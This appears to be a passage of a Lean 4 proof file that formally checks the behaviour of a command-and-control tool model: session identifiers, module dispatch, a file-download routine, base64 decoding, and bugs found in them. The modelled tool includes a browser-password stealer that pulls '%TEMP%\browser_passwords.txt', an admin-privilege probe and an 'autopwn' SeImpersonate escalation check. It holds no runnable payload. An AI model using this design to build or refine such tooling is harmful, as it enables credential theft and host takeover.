      rw [hsp c hc] at hT
      exact Bool.false_ne_true hT
    have h2 : u.reverse <:+: (l.dropWhile pySpace).reverse := subRev h1
    have h3 : u.reverse <:+: (l.dropWhile pySpace).reverse.dropWhile pySpace := by
      have hu' : u.reverse ≠ [] := by simpa using hu
      have hx : u.reverse <:+:
          (l.dropWhile pySpace).reverse.takeWhile pySpace ++
            (l.dropWhile pySpace).reverse.dropWhile pySpace := by
        rw [List.takeWhile_append_dropWhile]
        exact h2
      refine subSplit hx hu' ?_
      intro c hc hmem
      have hT := List.mem_takeWhile_imp hmem
      rw [hsp c (List.mem_reverse.mp hc)] at hT
      exact Bool.false_ne_true hT
    have h4 := subRev h3
    rw [List.reverse_reverse] at h4
    exact h4

/-- A newline-free prefix of a string is a prefix of its first segment. -/
theorem prefix_splitNl_head : ∀ {u : List Char}, '\n' ∉ u →
    ∀ {s r : List Char} {rs : List (List Char)},
    u <+: s → splitNl s = r :: rs → u <+: r := by
  intro u
  induction u with
  | nil => intro _ s r rs _ _; exact List.nil_prefix
  | cons a u' ih =>
    intro hnl s r rs hp hsplit
    obtain ⟨t, ht⟩ := hp
    subst ht
    have ha : ¬ a = '\n' := fun h => hnl (by rw [h]; exact List.mem_cons_self _ _)
    rw [List.cons_append] at hsplit
    cases hq : splitNl (u' ++ t) with
    | nil => exact absurd hq (splitNl_ne_nil _)
    | cons r' rs' =>
      rw [splitNl.eq_2, if_neg ha, hq] at hsplit
      simp only [] at hsplit
      injection hsplit with hh ht2
      subst hh
      obtain ⟨t', ht3⟩ :=
        ih (fun hm => hnl (List.mem_cons_of_mem a hm)) ⟨t, rfl⟩ hq
      exact ⟨t', by rw [List.cons_append, ht3]⟩

/-- A newline-free infix of a string is an infix of one of its segments. -/
theorem splitNl_finds {u : List Char} (hnl : '\n' ∉ u) : ∀ {s : List Char},
    u <:+: s → ∃ l ∈ splitNl s, u <:+: l := by
  intro s
  induction s with
  | nil =>
    intro h
    exact ⟨[], by simp [splitNl], h⟩
  | cons c rest ih =>
    intro h
    by_cases hc : c = '\n'
    · subst hc
      rcases List.infix_cons_iff.mp h with hp | hi
      · cases u with
        | nil => exact ⟨[], by simp [splitNl], ⟨[], [], rfl⟩⟩
        | cons a u' =>
          obtain ⟨t, ht⟩ := hp
          have ha : a = '\n' := by
            have := congrArg List.head? ht
            simpa using this
          exact absurd (by rw [ha]; exact List.mem_cons_self _ _ : '\n' ∈ a :: u') hnl
      · obtain ⟨l, hl, hul⟩ := ih hi
        refine ⟨l, ?_, hul⟩
        show l ∈ splitNl ('\n' :: rest)
        simp only [splitNl, if_pos rfl]
        exact List.mem_cons_of_mem _ hl
    · cases hr : splitNl rest with
      | nil => exact absurd hr (splitNl_ne_nil rest)
      | cons r rs =>
        have hsplit2 : splitNl (c :: rest) = (c :: r) :: rs := by
          rw [splitNl.eq_2, if_neg hc, hr]
        rcases List.infix_cons_iff.mp h with hp | hi
        · exact ⟨c :: r, by rw [hsplit2]; exact List.mem_cons_self _ _,
            subOfPrefix (prefix_splitNl_head hnl hp hsplit2)⟩
        · obtain ⟨l, hl, hul⟩ := ih hi
          rw [hr] at hl
          rcases List.mem_cons.mp hl with rfl | hmem
          · exact ⟨c :: l, by rw [hsplit2]; exact List.mem_cons_self _ _,
              consSub c hul⟩
          · exact ⟨l, by rw [hsplit2]; exact List.mem_cons_of_mem _ hmem, hul⟩

/-- A marker that contains no newline, no whitespace and no character of the
sentinel, and is at least two characters long, survives normalization: if
it occurs in the raw channel output it still occurs in the clean output. -/
theorem infix_clean_output {u s : List Char} (hnl : '\n' ∉ u)
    (hsent : ∀ c ∈ u, c ∉ sentinel) (hsp : ∀ c ∈ u, pySpace c = false)
    (hlen : 2 ≤ u.length) (h : u <:+: s) : u <:+: clean_output s := by
  have hne : u ≠ [] := by
    intro he
    rw [he] at hlen
    simp at hlen
  obtain ⟨l, hl, hul⟩ := splitNl_finds hnl h
  have h1 : u <:+: stripSentinel l := stripSentinel_keeps hsent hul
  have h2 : u <:+: cleanLine l := pyStrip_keeps hsp h1
  have hkl : keepLine (cleanLine l) = true := by
    have hne2 : cleanLine l ≠ [] := by
      intro he
      rw [he] at h2
      exact hne (List.sublist_nil.mp h2.sublist)
    have hncr : cleanLine l ≠ ['\r'] := by
      intro he
      rw [he] at h2
      have := h2.sublist.length_le
      simp only [List.length_cons, List.length_nil] at this
      omega
    simp [keepLine, hne2, hncr]
  have hmem : cleanLine l ∈ ((splitNl s).map cleanLine).filter keepLine :=
    List.mem_filter.mpr ⟨List.mem_map_of_mem cleanLine hl, hkl⟩
  exact memSubJoinNl hmem h2

/-- C5: when the clean output of the existence-check exchange does not
contain the success marker EXISTS, the transfer aborts reporting not
found after that single exchange — no size probe, no content transfer,
and no artifact (the result is notFound, which carries no bytes). -/
theorem download_aborts_when_exists_marker_missing (path : Option String)
    (replies : List (List Char))
    (h : ¬ ['E','X','I','S','T','S'] <:+: clean_output (replies.getD 0 [])) :
    module_download_file path replies =
      { sends := [existsCmd (resolvePath path)], result := .notFound } := by
  have hraw : ¬ ['E','X','I','S','T','S'] <:+: replies.getD 0 [] := by
    intro hc
    exact h (infix_clean_output (by decide) (by decide) (by decide)
      (by decide) hc)
  simp only [module_download_file]
  rw [if_neg hraw]

/-- C5 at a concrete input: an existence reply with no marker. -/
theorem download_aborts_witness :
    module_download_file none [['n','o']] =
      { sends := [existsCmd (resolvePath none)], result := .notFound } :=
  download_aborts_when_exists_marker_missing none [['n','o']] (by decide)

/-- C7: the privilege-level probe is a binary classification — a reply
containing `Access is denied` is classified USER (the scan lowercases the
reply, so the phrase is found case-insensitively), a reply containing no
denial phrase (`denied` or `refus`, case-insensitively) is classified
ADMINISTRATOR, and no third outcome exists. -/
theorem privilege_probe_binary (reply : List Char) :
    (['A','c','c','e','s','s',' ','i','s',' ','d','e','n','i','e','d'] <:+: reply →
      privStatus reply = "USER") ∧
    ((¬ ['d','e','n','i','e','d'] <:+: pyLower reply) →
      (¬ ['r','e','f','u','s'] <:+: pyLower reply) →
      privStatus reply = "ADMINISTRATOR") ∧
    (privStatus reply = "USER" ∨ privStatus reply = "ADMINISTRATOR") := by
  refine ⟨?_, ?_, ?_⟩
  · intro h
    have hd : ['d','e','n','i','e','d'] <:+: pyLower reply := by
      obtain ⟨a, b, rfl⟩ := h
      have hmid : ['d','e','n','i','e','d'] <:+:
          (['A','c','c','e','s','s',' ','i','s',' ','d','e','n','i','e','d'].map
            Char.toLower) := by decide
      simpa [pyLower] using
        infixExtend (a.map Char.toLower) (b.map Char.toLower) hmid
    simp [privStatus, hd]
  · intro h1 h2
    simp [privStatus, h1, h2]
  · by_cases hd : ['d','e','n','i','e','d'] <:+: pyLower reply ∨
        ['r','e','f','u','s'] <:+: pyLower reply
    · exact Or.inl (by simp [privStatus, hd])
    · exact Or.inr (by simp [privStatus, hd])

/-- C9: dispatching a module name outside the fixed table performs no
Command Channel I/O (no send_command, no recv_output), leaves the session
registry unchanged, and reports the unknown module, whatever the bodies of
the known modules do. -/
theorem unknown_module_no_channel_io (impl : String → List CmdIO)
    (st : C2State) (sid : Nat) (module : String)
    (h : module ∉ moduleNames) (hs : sid ∈ st.sessions) :
    execute_module impl st sid module = ([], st, "Unknown module: " ++ module) := by
  simp [execute_module, h, hs]

/-- C9 at a concrete input: a live session and a name outside the table. -/
theorem unknown_module_no_channel_io_witness :
    execute_module (fun _ => []) (run [Event.accept]) 1 "frobnicate" =
      ([], run [Event.accept], "Unknown module: " ++ "frobnicate") :=
  unknown_module_no_channel_io (fun _ => []) (run [Event.accept]) 1 "frobnicate"
    (by decide) (by decide)

/-- C10: with the remote path absent or empty the transfer uses the fixed
default `%TEMP%\browser_passwords.txt`; an explicit nonempty path is used
as given; the defaulted run is identical, exchange for exchange, to a run
with the default passed explicitly; and the browser-stealer module chains
into exactly that defaulted transfer. -/
theorem download_default_path_matches_stealer_chain :
    resolvePath none = "%TEMP%\\browser_passwords.txt" ∧
    resolvePath (some "") = "%TEMP%\\browser_passwords.txt" ∧
    (∀ p : String, p ≠ "" → resolvePath (some p) = p) ∧
    (∀ replies, module_download_file none replies =
      module_download_file (some "%TEMP%\\browser_passwords.txt") replies) ∧
    (∀ stealerReply dlReplies,
      ['S','a','v','e','d',' ','t','o',':'] <:+: stealerReply →
      module_browser_stealer stealerReply dlReplies =
        some (module_download_file none dlReplies)) := by
  have hpath : resolvePath (some "%TEMP%\\browser_passwords.txt") =
      resolvePath none := by
    simp [resolvePath]
  have hmod : ∀ replies, module_download_file none replies =
      module_download_file (some "%TEMP%\\browser_passwords.txt") replies := by
    intro replies
    simp only [module_download_file, hpath]
  refine ⟨rfl, by simp [resolvePath], fun p hp => by simp [resolvePath, hp],
    hmod, ?_⟩
  intro r dl h
  simp only [module_browser_stealer, if_pos h, hmod dl]

/-- C2: at the failing input the SeImpersonate heuristic diverges from its
stated contract.  The single privilege-query reply contains both the
marker `SeImpersonate` and the `Enabled` qualifier, so the spec's
predicate classifies it exploitable; the code, whose condition calls
recv_output twice, looks for `Enabled` in a second, later reply — here
empty because the channel has nothing more to deliver — and classifies it
not available. -/
theorem autopwn_seimpersonate_checks_second_reply :
    spec_seimpersonate_exploitable
      ['S','e','I','m','p','e','r','s','o','n','a','t','e','P','r','i','v',
       'i','l','e','g','e',' ','E','n','a','b','l','e','d'] = true ∧
    (module_autopwn [[],
      ['S','e','I','m','p','e','r','s','o','n','a','t','e','P','r','i','v',
       'i','l','e','g','e',' ','E','n','a','b','l','e','d'],
      []]).2 = false := by
  decide

/-- C8: registry removal is idempotent — removing the same identifier twice
leaves the same state as removing it once, and removing an identifier that
is not registered is a no-op on the whole state, not an error. -/
theorem registry_remove_idempotent (s : C2State) (id : Nat) :
    step (step s (.remove id)) (.remove id) = step s (.remove id) ∧
    (id ∉ s.sessions → step s (.remove id) = s) := by
  constructor
  · cases s
    simp [step, Finset.erase_idem]
  · intro h
    cases s
    simp [step]
    exact h

/-- Registry invariants are preserved along any event fold. -/
theorem foldl_inv (P : C2State → Prop)
    (hstep : ∀ s e, P s → P (step s e)) :
    ∀ (l : List Event) (s : C2State), P s → P (l.foldl step s) := by
  intro l
  induction l with
  | nil => intro s h; exact h
  | cons e l ih => intro s h; exact ih (step s e) (hstep s e h)

/-- In every reachable registry state the issued identifiers, oldest first,
are exactly 1, 2, ..., counter. -/
theorem run_issued (evs : List Event) :
    ((run evs).issued).reverse = List.range' 1 (run evs).session_counter ∧
    (run evs).session_counter = ((run evs).issued).length := by
  refine foldl_inv
    (fun s => s.issued.reverse = List.range' 1 s.session_counter ∧
      s.session_counter = s.issued.length) ?_ evs initState ⟨rfl, rfl⟩
  intro s e h
  obtain ⟨h1, h2⟩ := h
  cases e with
  | accept =>
    constructor
    · show ((s.session_counter + 1) :: s.issued).reverse =
        List.range' 1 (s.session_counter + 1)
      rw [List.reverse_cons, h1, List.range'_concat]
      simp [Nat.add_comm]
    · show s.session_counter + 1 = ((s.session_counter + 1) :: s.issued).length
      simp [h2]
  | remove id => exact ⟨h1, h2⟩

/-- An identifier at or below the counter that is not registered is never
registered again by any further events. -/
theorem not_reinserted (id : Nat) :
    ∀ (l : List Event) (s : C2State), id ≤ s.session_counter →
    id ∉ s.sessions →
    id ∉ (l.foldl step s).sessions ∧ id ≤ (l.foldl step s).session_counter := by
  intro l
  induction l with
  | nil => intro s h1 h2; exact ⟨h2, h1⟩
  | cons e l ih =>
    intro s h1 h2
    cases e with
    | accept =>
      apply ih
      · show id ≤ s.session_counter + 1
        omega
      · show id ∉ insert (s.session_counter + 1) s.sessions
        intro hmem
        rcases Finset.mem_insert.mp hmem with heq | hmem'
        · omega
        · exact h2 hmem'
    | remove j =>
      apply ih
      · exact h1
      · show id ∉ s.sessions.erase j
        intro hmem
        exact h2 (Finset.mem_of_mem_erase hmem)

/-- C6: the identifiers ever issued form, in order of issue, the strictly
increasing sequence 1, 2, ..., k — each accepted connection gets one more
than the previously issued identifier — and an issued identifier no longer
in the registry is never reinserted by any subsequent events. -/
theorem session_ids_increasing_never_reused (evs more : List Event) (id : Nat)
    (h1 : id ∈ (run evs).issued) (h2 : id ∉ (run evs).sessions) :
    ((run evs).issued).reverse = List.range' 1 ((run evs).issued).length ∧
    id ∉ (more.foldl step (run evs)).sessions := by
  obtain ⟨hrev, hcnt⟩ := run_issued evs
  constructor
  · rw [hrev, hcnt]
  · have hid : id ≤ (run evs).session_counter := by
      have hm : id ∈ ((run evs).issued).reverse := List.mem_reverse.mpr h1
      rw [hrev] at hm
      have := List.mem_range'_1.mp hm
      omega
    exact (not_reinserted id more (run evs) hid h2).1

/-- C6 at a concrete input: two accepts, session 1 removed, one more
accept — the history is 1, 2 and identifier 1 never returns. -/
theorem session_ids_increasing_never_reused_witness :
    ((run [Event.accept, Event.accept, Event.remove 1]).issued).reverse =
      List.range' 1
        ((run [Event.accept, Event.accept, Event.remove 1]).issued).length ∧
    1 ∉ (([Event.accept]).foldl step
      (run [Event.accept, Event.accept, Event.remove 1])).sessions :=
  session_ids_increasing_never_reused [Event.accept, Event.accept, Event.remove 1]
    [Event.accept] 1 (by decide) (by decide)

/-- Decoding inverts encoding on each sextet value. -/
theorem decodeChar_encChar : ∀ v : Nat, v < 64 → decodeChar (encChar v) = some v := by
  decide

/-- Out-of-range sextet values fall back to the alphabet default. -/
theorem encChar_overflow (v : Nat) (h : 64 ≤ v) : encChar v = 'A' := by
  unfold encChar
  apply List.getD_eq_default
  have hlen : b64Alphabet.length = 64 := by decide
  omega

/-- An encoded character is never the padding character. -/
theorem encChar_ne_pad (v : Nat) : (encChar v == '=') = false := by
  by_cases h : v < 64
  · exact (by decide : ∀ v : Nat, v < 64 → (encChar v == '=') = false) v h
  · rw [encChar_overflow v (by omega)]
    decide

/-- Every encoded character belongs to the processed character set. -/
theorem isB64_encChar (v : Nat) : isB64Char (encChar v) = true := by
  by_cases h : v < 64
  · exact (by decide : ∀ v : Nat, v < 64 → isB64Char (encChar v) = true) v h
  · rw [encChar_overflow v (by omega)]
    decide

/-- Every character of an encoding is processed, never discarded. -/
theorem mem_b64encode_valid : ∀ (d : List Nat) (c : Char),
    c ∈ b64encode d → isB64Char c = true := by
  intro d
  induction d using b64encode.induct with
  | case1 =>
    intro c hc
    simp [b64encode] at hc
  | case2 b1 =>
    intro c hc
    simp [b64encode] at hc
    rcases hc with rfl | rfl | rfl
    · exact isB64_encChar _
    · exact isB64_encChar _
    · decide
  | case3 b1 b2 =>
    intro c hc
    simp [b64encode] at hc
    rcases hc with rfl | rfl | rfl | rfl
    · exact isB64_encChar _
    · exact isB64_encChar _
    · exact isB64_encChar _
    · decide
  | case4 b1 b2 b3 rest ih =>
    intro c hc
    simp [b64encode] at hc
    rcases hc with rfl | rfl | rfl | rfl | hmem
    · exact isB64_encChar _
    · exact isB64_encChar _
    · exact isB64_encChar _
    · exact isB64_encChar _
    · exact ih c hmem

/-- The discard pass leaves an encoding untouched. -/
theorem filter_b64encode (d : List Nat) :
    (b64encode d).filter isB64Char = b64encode d :=
  List.filter_eq_self.mpr fun c hc => mem_b64encode_valid d c hc

/-- Group decoding inverts encoding of a byte sequence. -/
theorem decodeGroups_b64encode : ∀ (d : List Nat), (∀ x ∈ d, x < 256) →
    decodeGroups (b64encode d) = some d := by
  intro d
  induction d using b64encode.induct with
  | case1 => intro _; rfl
  | case2 b1 =>
    intro hb
    have h1 : b1 < 256 := hb b1 (by simp)
    have e1 : decodeChar (encChar (b1 / 4)) = some (b1 / 4) :=
      decodeChar_encChar _ (by omega)
    have e2 : decodeChar (encChar (b1 % 4 * 16)) = some (b1 % 4 * 16) :=
      decodeChar_encChar _ (by omega)
    show decodeGroups [encChar (b1 / 4), encChar (b1 % 4 * 16), '=', '='] =
      some [b1]
    simp [decodeGroups, e1, e2]
    omega
  | case3 b1 b2 =>
    intro hb
    have h1 : b1 < 256 := hb b1 (by simp)
    have h2 : b2 < 256 := hb b2 (by simp)
    have e1 : decodeChar (encChar (b1 / 4)) = some (b1 / 4) :=
      decodeChar_encChar _ (by omega)
    have e2 : decodeChar (encChar (b1 % 4 * 16 + b2 / 16)) =
        some (b1 % 4 * 16 + b2 / 16) := decodeChar_encChar _ (by omega)
    have e3 : decodeChar (encChar (b2 % 16 * 4)) = some (b2 % 16 * 4) :=
      decodeChar_encChar _ (by omega)
    show decodeGroups [encChar (b1 / 4), encChar (b1 % 4 * 16 + b2 / 16),
      encChar (b2 % 16 * 4), '='] = some [b1, b2]
    simp [decodeGroups, e1, e2, e3, encChar_ne_pad]
    constructor
    · omega
    · omega
  | case4 b1 b2 b3 rest ih =>
    intro hb
    have h1 : b1 < 256 := hb b1 (by simp)
    have h2 : b2 < 256 := hb b2 (by simp)
    have h3 : b3 < 256 := hb b3 (by simp)
    have hrest : ∀ x ∈ rest, x < 256 := fun x hx => hb x (by simp [hx])
    have e1 : decodeChar (encChar (b1 / 4)) = some (b1 / 4) :=
      decodeChar_encChar _ (by omega)
    have e2 : decodeChar (encChar (b1 % 4 * 16 + b2 / 16)) =
        some (b1 % 4 * 16 + b2 / 16) := decodeChar_encChar _ (by omega)
    have e3 : decodeChar (encChar (b2 % 16 * 4 + b3 / 64)) =
        some (b2 % 16 * 4 + b3 / 64) := decodeChar_encChar _ (by omega)
    have e4 : decodeChar (encChar (b3 % 64)) = some (b3 % 64) :=
      decodeChar_encChar _ (by omega)
    show decodeGroups (encChar (b1 / 4) :: encChar (b1 % 4 * 16 + b2 / 16) ::
      encChar (b2 % 16 * 4 + b3 / 64) :: encChar (b3 % 64) ::
      b64encode rest) = some (b1 :: b2 :: b3 :: rest)
    simp [decodeGroups, e1, e2, e3, e4, encChar_ne_pad, ih hrest]
    refine ⟨by omega, by omega, by omega⟩

/-- Round trip: decoding an encoding of bytes yields exactly those bytes. -/
theorem b64_roundtrip (d : List Nat) (hb : ∀ x ∈ d, x < 256) :
    b64decode (b64encode d) = some d := by
  show decodeGroups ((b64encode d).filter isB64Char) = some d
  rw [filter_b64encode]
  exact decodeGroups_b64encode d hb

/-- A processed character count that is not a multiple of four is a decode
error, whatever the characters are. -/
theorem decodeGroups_none_of_mod : ∀ (t : List Char), t.length % 4 ≠ 0 →
    decodeGroups t = none := by
  intro t
  induction t using decodeGroups.induct with
  | case1 =>
    intro h
    simp at h
  | case2 c1 c2 c3 c4 rest v1 v2 h2 h1 h3 h4 =>
    intro h
    have hr : rest = [] := by
      have h4' := h4
      simp only [Bool.and_eq_true, List.isEmpty_iff] at h4'
      exact h4'.2
    subst hr
    simp at h
  | case3 c1 c2 c3 c4 rest v1 v2 h2 h1 h3 h4 =>
    intro _
    simp [decodeGroups, h1, h2, h3, h4]
  | case4 c1 c2 c3 c4 rest v1 v2 h2 h1 h3 v3 hc3 h4 h5 =>
    intro h
    have hr : rest = [] := by simpa using h5
    subst hr
    simp at h
  | case5 c1 c2 c3 c4 rest v1 v2 h2 h1 h3 v3 hc3 h4 h5 =>
    intro _
    simp [decodeGroups, h1, h2, h3, hc3, h4, h5]
  | case6 c1 c2 c3 c4 rest v1 v2 h2 h1 h3 v3 hc3 h4 v4 hc4 bs hbs ih =>
    intro h
    have hm : rest.length % 4 ≠ 0 := by
      simp only [List.length_cons] at h
      omega
    rw [ih hm] at hbs
    simp at hbs
  | case7 c1 c2 c3 c4 rest v1 v2 h2 h1 h3 v3 hc3 h4 v4 hc4 hnone ih =>
    intro _
    simp [decodeGroups, h1, h2, h3, hc3, h4, hc4, hnone]
  | case8 c1 c2 c3 c4 rest v1 v2 h2 h1 h3 v3 hc3 h4 hc4 =>
    intro _
    simp [decodeGroups, h1, h2, h3, hc3, h4, hc4]
  | case9 c1 c2 c3 c4 rest v1 v2 h2 h1 h3 hc3 =>
    intro _
    simp [decodeGroups, h1, h2, h3, hc3]
  | case10 c1 c2 c3 c4 rest hfail =>
    intro _
    cases hc1 : decodeChar c1 with
    | none => simp [decodeGroups, hc1]
    | some v1 =>
      cases hc2 : decodeChar c2 with
      | none => simp [decodeGroups, hc1, hc2]
      | some v2 => exact absurd (hfail v1 v2 hc1 hc2) (by simp)
  | case11 t hnil hshape =>
    intro h
    rcases t with _ | ⟨c1, _ | ⟨c2, _ | ⟨c3, _ | ⟨c4, rest⟩⟩⟩⟩
    · exact absurd rfl hnil
    · rfl
    · rfl
    · rfl
    · exact (hshape c1 c2 c3 c4 rest rfl).elim

/-- Truncating a valid encoding off a four-character boundary yields a
decode error. -/
theorem b64decode_take_none (d : List Nat) (n : Nat) (h4 : n % 4 ≠ 0)
    (hlt : n < (b64encode d).length) :
    b64decode ((b64encode d).take n) = none := by
  show decodeGroups (((b64encode d).take n).filter isB64Char) = none
  have hf : ((b64encode d).take n).filter isB64Char = (b64encode d).take n :=
    List.filter_eq_self.mpr fun c hc =>
      mem_b64encode_valid d c (List.mem_of_mem_take hc)
  rw [hf]
  apply decodeGroups_none_of_mod
  rw [List.length_take, Nat.min_eq_left (Nat.le_of_lt hlt)]
  exact h4

/-- C4 counterexample: the encoding of the 24 bytes 65..88 truncated to its
first 24 characters is a proper truncation, passes the blob-length guard,
and step 4 decodes it successfully and persists 18 wrong (cut short)
bytes — no Decode error is surfaced. -/
theorem truncated_base64_decodes_successfully :
    (b64encode [65,66,67,68,69,70,71,72,73,74,75,76,77,78,79,80,81,82,83,
      84,85,86,87,88]).take 24 <+:
      b64encode [65,66,67,68,69,70,71,72,73,74,75,76,77,78,79,80,81,82,83,
        84,85,86,87,88] ∧
    (b64encode [65,66,67,68,69,70,71,72,73,74,75,76,77,78,79,80,81,82,83,
      84,85,86,87,88]).take 24 ≠
      b64encode [65,66,67,68,69,70,71,72,73,74,75,76,77,78,79,80,81,82,83,
        84,85,86,87,88] ∧
    decode_and_persist ((b64encode [65,66,67,68,69,70,71,72,73,74,75,76,77,
      78,79,80,81,82,83,84,85,86,87,88]).take 24) "browser_passwords.txt" =
      .saved [65,66,67,68,69,70,71,72,73,74,75,76,77,78,79,80,81,82]
        "browser_passwords.txt" ∧
    ([65,66,67,68,69,70,71,72,73,74,75,76,77,78,79,80,81,82] : List Nat) ≠
      [65,66,67,68,69,70,71,72,73,74,75,76,77,78,79,80,81,82,83,84,85,86,
       87,88] := by
  decide

/-- C4 amended: step 4 fails without persisting anything whenever the blob
is shorter than the 10-character plausibility floor (the code's stand-in
for an implausibly small payload) or base64 decoding fails; decoding an
intact encoding returns exactly the original bytes; and a truncation off a
four-character boundary surfaces a Decode error.  A truncation at a
four-character boundary, however, decodes successfully to wrong bytes, as
the counterexample shows — base64 carries no integrity check. -/
theorem decode_and_persist_guards (b : List Char) (base : String)
    (d : List Nat) (n : Nat) (hb : ∀ x ∈ d, x < 256) :
    (b.length < 10 → decode_and_persist b base = .readFailed) ∧
    (b64decode b = none → decode_and_persist b base = .readFailed ∨
      decode_and_persist b base = .decodeError) ∧
    b64decode (b64encode d) = some d ∧
    (n % 4 ≠ 0 → n < (b64encode d).length →
      b64decode ((b64encode d).take n) = none) := by
  refine ⟨?_, ?_, b64_roundtrip d hb, fun h4 hlt => b64decode_take_none d n h4 hlt⟩
  · intro h
    simp [decode_and_persist, h]
  · intro h
    by_cases hlen : b.length < 10
    · exact Or.inl (by simp [decode_and_persist, hlen])
    · exact Or.inr (by simp [decode_and_persist, hlen, h])

/-- C4 amended, at a concrete input: the empty blob and the one-byte file 65. -/
theorem decode_and_persist_guards_witness :
    (([] : List Char).length < 10 → decode_and_persist [] "x" = .readFailed) ∧
    (b64decode [] = none → decode_and_persist [] "x" = .readFailed ∨
      decode_and_persist [] "x" = .decodeError) ∧
    b64decode (b64encode [65]) = some [65] ∧
    (1 % 4 ≠ 0 → 1 < (b64encode [65]).length →
      b64decode ((b64encode [65]).take 1) = none) :=
  decode_and_persist_guards [] "x" [65] 1 (by decide)
